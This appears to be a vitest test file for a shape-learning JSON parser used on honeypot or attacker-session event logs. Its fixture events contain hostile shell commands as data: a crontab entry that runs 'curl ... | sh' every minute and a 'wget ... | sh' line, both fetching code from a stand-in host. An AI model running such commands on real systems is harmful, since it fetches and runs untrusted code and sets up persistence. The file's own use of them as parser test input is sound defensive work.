import { isAscii } from "node:buffer";
import { describe, expect, it } from "vitest";
import { JsonShapes, NOT_TAKEN } from "./json-shapes";

/** Order-, type- and -0-exact description of a parsed value (toEqual ignores key order). */
function describeValue(v: unknown): string {
  if (v === null || typeof v !== "object") return typeof v === "number" && Object.is(v, -0) ? "-0" : `${typeof v}:${JSON.stringify(v)}`;
  if (Array.isArray(v)) return `[${v.map(describeValue).join(",")}]`;
  const proto = Object.getPrototypeOf(v) === Object.prototype ? "" : "!proto";
  return `{${proto}${Object.keys(v).map((k) => `${JSON.stringify(k)}:${describeValue((v as Record<string, unknown>)[k])}`).join(",")}}`;
}

/** JSON.parse's answer, or "throws". */
function reference(line: string): string {
  try {
    return describeValue(JSON.parse(line));
  } catch {
    return "throws";
  }
}

/** A scanner that knows the shapes of `lines` (each learned as soon as the rate limit allows). */
function trained(lines: string[]): JsonShapes {
  const shapes = new JsonShapes();
  for (const l of lines) {
    for (let i = 0; i < 256; i++) shapes.parse("x", 0, 1, Buffer.from("x"));
    shapes.learn(JSON.parse(l));
  }
  return shapes;
}

/** parse() of `line` placed between other text (so reading past its end would see something). */
function parseIn(shapes: JsonShapes, line: string, after: string | null = '"}]}\n{"a":1}'): unknown {
  const before = '{"z":"}\n';
  const text = after === null ? before + line : before + line + "\n" + after;
  return shapes.parse(text, before.length, before.length + line.length, Buffer.from(text, "latin1"));
}

const EVENT = JSON.stringify({
  source_kind: "command",
  source_id: "cmd_1",
  attacker_uuid: "att-1",
  session_id: null,
  payload: { command_text: "echo \"* * * * * curl -fsSL http://x/y | sh\" | crontab -", uid: 0, user: "root", src: "185.224.128.17", pwd: "/home/admin", tty: true, ok: false, f: -1.5e-3 },
});
/** An event whose payload text is exactly JSON.stringify's (integers, no escapes, a nested object). */
const PLAIN_EVENT = JSON.stringify({
  source_kind: "ssh",
  source_id: "s1",
  payload: { command_text: "wget http://x/y -O- | sh", uid: 1000, n: -12, f: 0.25, big: 123456789012345, ok: true, z: null, o: { p: "q", e: "" } },
});

/** The payload's text at the offsets the scanner gave for the line it last took (null when it gave none). */
function payloadText(shapes: JsonShapes, line: string): string | null {
  const before = '{"z":"}\n';
  return shapes.payloadTo < 0 ? null : (before + line).slice(shapes.payloadFrom, shapes.payloadTo);
}

const NESTED = JSON.stringify({ a: { b: { c: "deep", d: "x" }, d: {} }, e: 1 });

describe("JsonShapes", () => {
  it("takes lines of a learned shape and gives exactly what JSON.parse gives", () => {
    const shapes = trained([EVENT, NESTED]);
    const lines = [
      EVENT,
      EVENT.replace('"cmd_1"', '"cmd_123456789012345"').replace('"root"', '"r\\u00e9\\"x\\\\"'),
      EVENT.replace('"uid":0', '"uid":-0').replace('"f":-1.5e-3', '"f":1E+400'),
      EVENT.replace('"uid":0', '"uid":12.50').replace('"session_id":null', '"session_id":"s"'),
      EVENT.replace('"command_text":"', '"command_text":"\\ud800 lone \\u2028 ').replace('"tty":true', '"tty":null'),
      EVENT.replace('"pwd":"/home/admin"', '"pwd":"ü non-ascii"'),
      NESTED,
      NESTED.replace('"deep"', "123"),
    ];
    let taken = 0;
    for (const line of lines) {
      const got = parseIn(shapes, line);
      if (got !== NOT_TAKEN) {
        taken++;
        expect(describeValue(got)).toBe(reference(line));
      }
    }
    expect(taken).toBe(lines.length);
  });

  it("leaves to JSON.parse every line that is not exactly a known shape: whitespace, other keys or order, duplicates, arrays, bad tokens, truncation", () => {
    const shapes = trained([EVENT, NESTED]);
    const others = [
      " " + EVENT,
      EVENT + " ",
      EVENT.replace('"source_kind":', '"source_kind" :'),
      EVENT.replace('"uid":0', '"uid": 0'),
      EVENT.replace('"uid":0', '"uid":01'),
      EVENT.replace('"uid":0', '"uid":1.'),
      EVENT.replace('"uid":0', '"uid":.5'),
      EVENT.replace('"uid":0', '"uid":-'),
      EVENT.replace('"uid":0', '"uid":1e'),
      EVENT.replace('"uid":0', '"uid":+1'),
      EVENT.replace('"uid":0', '"uid":0x1'),
      EVENT.replace('"uid":0', '"uid":NaN'),
      EVENT.replace('"uid":0', '"uid":[0]'),
      EVENT.replace('"uid":0', '"uid":{}'),
      EVENT.replace('"tty":true', '"tty":tru'),
      EVENT.replace('"tty":true', '"tty":truex'),
      EVENT.replace('"tty":true', '"tty":nul'),
      EVENT.replace('"root"', '"ro\tot"'),
      EVENT.replace('"root"', '"ro\\xot"'),
      EVENT.replace('"root"', '"ro\\u12"'),
      EVENT.replace('"root"', "'root'"),
      EVENT.replace('"attacker_uuid":"att-1",', ""),
      EVENT.replace('"source_id":"cmd_1",', '"source_id":"cmd_1","source_id":"cmd_2",'),
      EVENT.replace('"payload":{', '"payload":"x","p":{'),
      EVENT.replace('"payload":{', '"payload":null,"x":{'),
      EVENT.slice(0, -1),
      EVENT.slice(0, -2),
      EVENT.slice(0, 40),
      EVENT + "}",
      EVENT + ",",
      "[" + EVENT + "]",
      "{}",
      '{"__proto__":{"x":1}}',
      NESTED.replace('"d":{}', '"d":{"x":1}'),
      NESTED.replace('"d":"x"', '"d":{}'),
      NESTED.replace('"d":{}', '"d":[]'),
    ];
    for (const line of others) {
      const got = parseIn(shapes, line);
      // Either left to JSON.parse or, if taken, identical (none of these should be taken).
      expect({ line, got: got === NOT_TAKEN ? "not taken" : describeValue(got) }).toEqual({ line, got: "not taken" });
      // The last line of a text, without a newline after it.
      expect(parseIn(shapes, line, null)).toBe(NOT_TAKEN);
    }
  });

  it("gives the payload's offsets only when its text is exactly JSON.stringify of the parsed payload", () => {
    const shapes = trained([EVENT, PLAIN_EVENT]);
    const cases: [string, boolean][] = [
      [PLAIN_EVENT, true],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":1000.0'), false],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":1e3'), false],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":-0'), false],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":0'), true],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":-0.5'), true],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":12345678901234567890'), false],
      [PLAIN_EVENT.replace('"uid":1000', '"uid":1234567890123456'), true],
      [PLAIN_EVENT.replace('"f":0.25', '"f":0.250'), false],
      [PLAIN_EVENT.replace('"f":0.25', '"f":2.5e-1'), false],
      [PLAIN_EVENT.replace('"f":0.25', '"f":1e+21'), true],
      [PLAIN_EVENT.replace('"f":0.25', '"f":1e21'), false],
      [PLAIN_EVENT.replace('"p":"q"', '"p":"\\/"'), false],
      [PLAIN_EVENT.replace('"p":"q"', '"p":"\\u0071"'), false],
      [PLAIN_EVENT.replace('"p":"q"', '"p":"a\\"b"'), false],
      [PLAIN_EVENT.replace('"p":"q"', '"p":"\u007f~"'), true],
      // Outside the payload, escapes and other numbers change nothing.
      [PLAIN_EVENT.replace('"s1"', '"s\\u0031"'), true],
      [EVENT, false],
    ];
    for (const [line, exact] of cases) {
      const got = parseIn(shapes, line);
      expect(got, line).not.toBe(NOT_TAKEN);
      expect(describeValue(got), line).toBe(reference(line));
      const raw = payloadText(shapes, line);
      if (exact) expect(raw, line).toBe(JSON.stringify((got as { payload: unknown }).payload));
      else expect(raw, line).toBeNull();
    }
  });

  it("reads nothing past the end it is given: every prefix of a known line, cut anywhere in a longer text", () => {
    const shapes = trained([EVENT, NESTED]);
    for (const line of [EVENT, NESTED, EVENT.replace('"cmd_1"', '"a\\"b"')]) {
      const text = line + line;
      const bytes = Buffer.from(text, "latin1");
      for (let end = 1; end < line.length; end++) {
        const got = shapes.parse(text, 0, end, bytes);
        expect(got === NOT_TAKEN ? "not taken" : describeValue(got)).toBe(reference(line.slice(0, end)) === "throws" ? "not taken" : reference(line.slice(0, end)));
      }
      expect(describeValue(shapes.parse(text, 0, line.length, bytes))).toBe(reference(line));
    }
  });

  it("agrees with JSON.parse on 20,000 random mutations of known lines (taken only when JSON.parse gives the same value)", () => {
    const base = [EVENT, NESTED, JSON.stringify({ k: "v", n: 1, t: true, z: null, o: { p: "q" } }), PLAIN_EVENT];
    const shapes = trained(base);
    let rawTaken = 0;
    let rawDiffers = 0;
    const alphabet = ['"', "\\", "{", "}", "[", "]", ",", ":", " ", "0", "1", "9", "-", "+", ".", "e", "E", "t", "r", "u", "f", "a", "l", "s", "n", "x", "\u0000", "\u001f", "\n", "é", "\ud800", "u"];
    let seed = 12345;
    const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 8) % n;
    let taken = 0;
    let differs = 0;
    for (let t = 0; t < 20_000; t++) {
      let line = base[rnd(base.length)] as string;
      for (let m = 1 + rnd(3); m > 0; m--) {
        const at = rnd(line.length + 1);
        const ch = alphabet[rnd(alphabet.length)] as string;
        const op = rnd(3);
        line = op === 0 ? line.slice(0, at) + ch + line.slice(at) : op === 1 ? line.slice(0, at) + line.slice(at + 1) : line.slice(0, at) + ch + line.slice(at + 1);
      }
      if (line.includes("\n")) continue;
      // Only ASCII text reaches the scanner (bytes and characters must line up).
      if (!isAscii(Buffer.from(line, "utf8"))) continue;
      const got = parseIn(shapes, line, rnd(2) === 0 ? '"}' : "0}");
      if (got === NOT_TAKEN) continue;
      taken++;
      if (describeValue(got) !== reference(line)) differs++;
      const raw = payloadText(shapes, line);
      if (raw !== null) {
        rawTaken++;
        if (raw !== JSON.stringify((got as { payload?: unknown }).payload)) rawDiffers++;
      }
    }
    expect(differs).toBe(0);
    expect(taken).toBeGreaterThan(1000);
    expect(rawDiffers).toBe(0);
    expect(rawTaken).toBeGreaterThan(100);
  });

  it("never learns __proto__, arrays, deep or wide objects; learns at most one shape per 256 lines and keeps 4", () => {
    const fresh = () => {
      const s = new JsonShapes();
      for (let i = 0; i < 256; i++) s.parse("x", 0, 1, Buffer.from("x"));
      return s;
    };
    const refused = [
      JSON.parse('{"__proto__":{"x":1},"a":1}') as unknown,
      { a: [1] },
      { a: { b: { c: { d: 1 } } } },
      Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`k${i}`, i])),
      // 5 + 5 × 52 keys with the nested objects: over the 256 keys a whole shape may have.
      Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`o${i}`, Object.fromEntries(Array.from({ length: 52 }, (_, j) => [`k${j}`, j]))])),
      { ["k".repeat(129)]: 1 },
      [1, 2],
      "str",
      null,
    ];
    for (const v of refused) {
      const s = fresh();
      s.learn(v);
      const line = JSON.stringify(v);
      if (line !== undefined) expect(parseIn(s, line)).toBe(NOT_TAKEN);
    }
    // Keys that JSON escapes are never part of a shape: `{"a":"b":1}` is not the key `a":"b`.
    for (const key of ['a":"b', "a\\b", "a\nb", "é"]) {
      const s = fresh();
      s.learn({ [key]: 1 });
      expect(parseIn(s, JSON.stringify({ [key]: 2 }))).toBe(NOT_TAKEN);
    }
    // Just within the bounds: 64 keys, 256 keys in all, a 128-character key.
    const widest = Object.fromEntries(Array.from({ length: 4 }, (_, i) => [`o${i}`, Object.fromEntries(Array.from({ length: 63 }, (_, j) => [`k${j}`, j]))]));
    for (const v of [widest, { ["k".repeat(128)]: 1 }]) {
      const s = fresh();
      s.learn(v);
      expect(describeValue(parseIn(s, JSON.stringify(v)))).toBe(describeValue(v));
    }
    // Keys that mean something in JavaScript source are data in the compiled scanner.
    const oddLine = JSON.stringify({ "a'b": 1, "c`d${x}": { "e*/f": "g", "//h": null }, "j)}{": -2 });
    const learnt = fresh();
    learnt.learn(JSON.parse(oddLine));
    expect(describeValue(parseIn(learnt, oddLine))).toBe(reference(oddLine));
    const quoted = fresh();
    quoted.learn(JSON.parse('{"a\\":\\"b":1}'));
    expect(parseIn(quoted, '{"a":"b":1}')).toBe(NOT_TAKEN);
    // Rate limit: a second shape right after the first is not learned.
    const s = fresh();
    s.learn({ a: 1 });
    s.learn({ b: 1 });
    expect(parseIn(s, '{"a":2}')).toEqual({ a: 2 });
    expect(parseIn(s, '{"b":2}')).toBe(NOT_TAKEN);
    // Four shapes kept: a fifth replaces the oldest.
    const k = trained(['{"a":1}', '{"b":1}', '{"c":1}', '{"d":1}', '{"e":1}']);
    expect(parseIn(k, '{"a":2}')).toBe(NOT_TAKEN);
    for (const key of ["b", "c", "d", "e"]) expect(parseIn(k, `{"${key}":2}`)).toEqual({ [key]: 2 });
  });

  it("copies long strings out of the text: a value is equal to, not a view of, the line", () => {
    const shapes = trained([EVENT]);
    const got = parseIn(shapes, EVENT) as { payload: { command_text: string } };
    expect(got.payload.command_text).toBe((JSON.parse(EVENT) as { payload: { command_text: string } }).payload.command_text);
  });
});
